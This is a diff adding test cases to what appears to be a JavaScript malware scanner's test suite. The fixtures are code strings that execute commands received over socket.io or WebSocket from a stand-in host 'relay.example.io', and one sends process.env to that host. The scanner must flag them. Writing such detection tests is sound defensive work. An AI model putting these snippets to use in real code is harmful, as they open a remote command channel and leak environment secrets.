@@ -126,6 +126,31 @@ describe('correlation: download-exec', () => {
     assert.deepEqual(only('download-exec', code).map(f => f.severity), ['high']);
   });
 
+  it('runs a command received on a socket: a socket.io event or a WebSocket message (a remote command channel), high', () => {
+    const socketIo = 'const{io}=require("socket.io-client"),cp=require("child_process");\nconst s=io("https://relay.example.io");s.on("run",d=>{cp.exec(d.command)})';
+    assert.deepEqual(only('download-exec', socketIo).map(f => [f.severity, f.line]), [['high', 2]]);
+    const ws = 'const W=require("ws"),cp=require("child_process");function c(u){const s=new W(u);s.on("message",m=>{const j=JSON.parse(m);cp.execSync(j.cmd)})}';
+    assert.deepEqual(only('download-exec', ws).map(f => f.severity), ['high']);
+    const browser = 'const cp=require("child_process");const s=new WebSocket("wss://relay.example.io");s.addEventListener("message",e=>cp.spawn(e.data,[]))';
+    assert.deepEqual(only('download-exec', browser).map(f => f.severity), ['high']);
+  });
+
+  it('leaves what the parent process, a lifecycle event or another emitter gives a listener', () => {
+    const parent = 'const cp=require("child_process");process.on("message",m=>cp.exec(m.command))';
+    assert.deepEqual(only('download-exec', parent), [], 'IPC from the parent process is no network message');
+    const lifecycle = 'const W=require("ws"),cp=require("child_process");const s=new W("wss://a.io");s.on("close",c=>cp.exec("log "+c))';
+    assert.deepEqual(only('download-exec', lifecycle), [], 'a close code is no message');
+    const emitter = 'const E=require("events"),cp=require("child_process");const e=new E();e.on("run",d=>cp.exec(d.command))';
+    assert.deepEqual(only('download-exec', emitter), []);
+  });
+
+  it('follows the environment into a socket.io emit: the message sent is the payload', () => {
+    const code = 'const{io}=require("socket.io-client");const s=io("https://relay.example.io");function up(){s.emit("env",JSON.stringify(process.env))}';
+    assert.deepEqual(only('exfiltration', code).map(f => f.severity), ['high']);
+    const other = 'const E=require("events");const s=new E();function up(){s.emit("env",JSON.stringify(process.env))}';
+    assert.deepEqual(only('exfiltration', other), [], "an event emitter's emit sends nothing over the network");
+  });
+
   it('leaves data from the network given to a fixed program as input (git apply of a fetched patch)', () => {
     const code = 'async function a(u){const r=await fetch(u);const p=await r.text();const{execFileSync:o}=await import("child_process");o("git",["apply"],{input:p})}';
     assert.deepEqual(only('download-exec', code), []);
